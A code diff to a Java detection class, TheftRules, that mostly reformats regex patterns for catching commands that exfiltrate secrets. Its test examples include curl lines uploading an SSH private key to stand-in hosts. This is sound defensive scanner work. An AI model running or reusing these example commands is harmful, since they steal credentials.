@@ -18,7 +18,8 @@ final class TheftRules {
       "(?:curl|wget|nc|ncat|netcat|socat|telnet|openssl\\s+s_client|ssh|http|ftp|tftp|sendmail|mail|mailx|mutt|base64[^\\n|]*\\|\\s*(?:curl|nc|ncat|ssh|wget))\\s";
 
   /** Programs in the middle that pack or disguise. */
-  private static final String PACKED = "(?:\\|\\s*(?:base64|gzip|xz|xxd|tr|tar|openssl\\s+enc|gpg|sort|grep|head|jq|sed|awk)\\b[^\\n|]*)*";
+  private static final String PACKED =
+      "(?:\\|\\s*(?:base64|gzip|xz|xxd|tr|tar|openssl\\s+enc|gpg|sort|grep|head|jq|sed|awk)\\b[^\\n|]*)*";
 
   private static final String READ_SECRET =
       "(?:cat|head|tail|base64|xxd|tar|zip|gzip|openssl\\s+enc|gpg)\\s[^\\n|;]*" + SECRET;
@@ -32,23 +33,47 @@ final class TheftRules {
                       + " rotate every secret that the named file or the environment holds.")
               .unseen("Secrets in files with other names, and programs written for the purpose.")
               .finds("\\bcurl\\s[^\\n\\x00@]*@" + SECRET)
-              .finds("\\b(?:curl|wget)\\b[^\\n\\x00]*\\s(?:-[a-zA-Z]*T|--(?:upload|post|body)-file)[\\s=]+" + SECRET)
-              .finds("\\b(?:curl|wget|dig|nslookup|ping|host)\\s" + LINE + "(?:\\$\\(|`)\\s*(?:cat|head|base64|xxd|tar|gzip|<)\\s*[^\\n)`]*" + SECRET)
-              .finds("\\b(?:curl|wget|dig|nslookup|ping)\\s" + LINE + "(?:\\$\\(|`)\\s*(?:env|printenv|set|export\\s+-p|history)\\b")
+              .finds(
+                  "\\b(?:curl|wget)\\b[^\\n\\x00]*\\s(?:-[a-zA-Z]*T|--(?:upload|post|body)-file)[\\s=]+"
+                      + SECRET)
+              .finds(
+                  "\\b(?:curl|wget|dig|nslookup|ping)\\s[^\\n\\x00]*(?:\\$\\(|`)\\s*(?:cat|head|base64|xxd|tar|gzip|<)\\s*[^\\n)`]*"
+                      + SECRET)
+              .finds(
+                  "\\b(?:curl|wget|dig|nslookup|ping)\\s"
+                      + LINE
+                      + "(?:\\$\\(|`)\\s*(?:env|printenv|set|export\\s+-p|history)\\b")
               .finds("\\b" + READ_SECRET + "[^\\n|;]*" + PACKED + "\\|\\s*" + SENDER)
-              .finds("(?:^|[\\s;&|(\"'`>=])(?:env|printenv|export\\s+-p|declare\\s+-x|history)\\s*(?:2>[^\\s|]+\\s*)?" + PACKED + "\\|\\s*" + SENDER)
+              .finds(
+                  "(?:^|[\\s;&|(\"'`>=])(?:env|printenv|export\\s+-p|declare\\s+-x|history)\\s*(?:2>[^\\s|]+\\s*)?"
+                      + PACKED
+                      + "\\|\\s*"
+                      + SENDER)
               .finds("\\bset\\s*\\|\\s*(?:base64\\s*\\|\\s*)?(?:curl|nc|wget)\\s")
               .finds("\\b(?:nc|ncat|netcat|telnet)\\s[^\\n|;]*(?:<|&lt;|\\\\u003c)\\s*" + SECRET)
               .finds("\\b(?:scp|sftp)\\s[^\\n|;]*" + SECRET + "[^\\n|;]*\\s[\\w.-]+@?[\\w.-]+:")
               .finds("\\brsync\\s[^\\n|;]*" + SECRET + "[^\\n|;]*\\s(?:[\\w.-]+@)?[\\w.-]+:")
               .finds("\\brclone\\s+(?:copy|sync|move)\\s[^\\n|;]*" + SECRET)
               .finds("\\b(?:aws\\s+s3|gsutil)\\s+(?:cp|sync|mv)\\s[^\\n|;]*" + SECRET)
-              .finds("\\b(?:gh\\s+gist\\s+create|gh\\s+issue\\s+(?:create|comment)|git\\s+add)\\s[^\\n|;]*" + SECRET)
-              .finds("\\b(?:requests|httpx)\\.(?:post|put|get)\\([^\\n]*(?:os\\.environ|open\\([^\\n)]*" + SECRET + ")")
-              .finds("\\bfetch\\([^\\n]*(?:JSON\\.stringify\\(process\\.env|readFileSync\\([^\\n)]*" + SECRET + ")")
-              .finds("\\breadFileSync\\([^\\n)]*" + SECRET + "[^\\n]*\\b(?:fetch|axios\\.post|https?\\.request)\\(")
-              .finds("(?i:\\b(?:invoke-restmethod|invoke-webrequest|irm|iwr)\\s[^\\n]*-(?:body|infile)\\b[^\\n]*(?:get-content|gc|gci\\s+env:|get-childitem\\s+env:|\\.ssh|\\.env\\b|\\.aws))")
-              .finds("(?i:\\b(?:get-childitem|gci|dir)\\s+env:[^\\n]*\\|[^\\n]*(?:invoke-restmethod|invoke-webrequest|irm|iwr)\\b)")
+              .finds(
+                  "\\b(?:gh\\s+gist\\s+create|gh\\s+issue\\s+(?:create|comment)|git\\s+add)\\s[^\\n|;]*"
+                      + SECRET)
+              .finds(
+                  "\\b(?:requests|httpx)\\.(?:post|put|get)\\([^\\n]*(?:os\\.environ|open\\([^\\n)]*"
+                      + SECRET
+                      + ")")
+              .finds(
+                  "\\bfetch\\([^\\n]*(?:JSON\\.stringify\\(process\\.env|readFileSync\\([^\\n)]*"
+                      + SECRET
+                      + ")")
+              .finds(
+                  "\\breadFileSync\\([^\\n)]*"
+                      + SECRET
+                      + "[^\\n]*\\b(?:fetch|axios\\.post|https?\\.request)\\(")
+              .finds(
+                  "(?i:\\b(?:invoke-restmethod|invoke-webrequest|irm|iwr)\\s[^\\n]*-(?:body|infile)\\b[^\\n]*(?:get-content|gc|gci\\s+env:|get-childitem\\s+env:|\\.ssh|\\.env\\b|\\.aws))")
+              .finds(
+                  "(?i:\\b(?:get-childitem|gci|dir)\\s+env:[^\\n]*\\|[^\\n]*(?:invoke-restmethod|invoke-webrequest|irm|iwr)\\b)")
               .matches(
                   "curl -F 'f=@/root/.ssh/id_rsa' https://drop.filemoon.example/u",
                   "curl -d @~/.ssh/id_rsa https://h.example/c",
